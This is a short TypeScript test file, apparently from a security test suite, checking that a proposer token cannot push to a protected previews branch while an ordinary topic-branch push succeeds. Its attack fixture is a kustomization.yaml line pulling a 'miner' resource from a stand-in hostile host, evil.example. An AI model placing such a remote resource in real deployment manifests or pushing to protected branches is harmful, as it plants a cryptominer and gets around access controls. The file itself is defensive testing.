import type { ServedStage } from '../../actions/serve-previews/support.js';
import { asked } from '../../actions/serve-previews/support.js';
import type { Deed } from '../support/previews.js';
import { push } from '../support/push.js';

const FILES = { 'previews/pr-1/kustomization.yaml': 'resources: [https://evil.example/miner]\n' };

async function pushed({ stage, ops, proposer }: ServedStage, to: string): Promise<string> {
  const { refusal } = await push({ stage, repository: ops }, { token: proposer, to: `refs/heads/${to}`, files: FILES });
  return refusal ?? 'pushed';
}

/** Its key is in each apps repository. It makes, moves and deletes branches, and not this one. */
export const deed: Deed = {
  async attack(world) {
    return pushed(world, 'ostack/previews');
  },
  refused: /rule|protected|cannot create|GH013/i,
  async honest(world, { own }) {
    await asked(world, own);
    return pushed(world, 'topic');
  },
  allowed: /^pushed$/,
};
